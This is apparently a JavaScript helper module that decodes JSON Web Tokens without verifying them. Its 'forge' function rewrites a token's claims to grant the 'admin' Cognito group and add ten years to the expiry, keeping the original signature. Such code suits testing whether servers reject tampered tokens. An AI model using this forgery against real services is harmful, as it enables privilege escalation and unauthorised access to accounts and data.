/** Reads a token without verifying it, and makes a forgery. */

const DECODER = new TextDecoder('utf-8', { fatal: true })
const TEN_YEARS = 315_360_000

/** The three texts, and what the first two say; `undefined` for what cannot be read. */
export function readToken(token) {
  const [header, payload, signature, ...rest] = token.split('.')
  return {
    parts: [header, payload, signature].filter((part) => part !== undefined),
    rest,
    header: readPart(header),
    payload: readPart(payload),
  }
}

/** The same token with other claims: an admin, for ten more years. The signature is still that of the true claims. */
export function forge(token) {
  const { parts, payload } = readToken(token)
  const claims = { ...payload, exp: payload.exp + TEN_YEARS, 'cognito:groups': ['admin'] }
  return [parts[0], encode(JSON.stringify(claims)), parts[2]].join('.')
}

/** Base64url without padding (RFC 7515 s2). */
export function encode(data) {
  const bytes = typeof data === 'string' ? new TextEncoder().encode(data) : new Uint8Array(data)
  const text = btoa(String.fromCharCode(...bytes))
  return text.replaceAll('+', '-').replaceAll('/', '_').replace(/=+$/, '')
}

function readPart(part) {
  try {
    const text = atob(part.replaceAll('-', '+').replaceAll('_', '/'))
    const bytes = Uint8Array.from(text, (character) => character.charCodeAt(0))
    const value = JSON.parse(DECODER.decode(bytes))
    return typeof value === 'object' && value !== null && !Array.isArray(value) ? value : undefined
  } catch {
    return undefined
  }
}
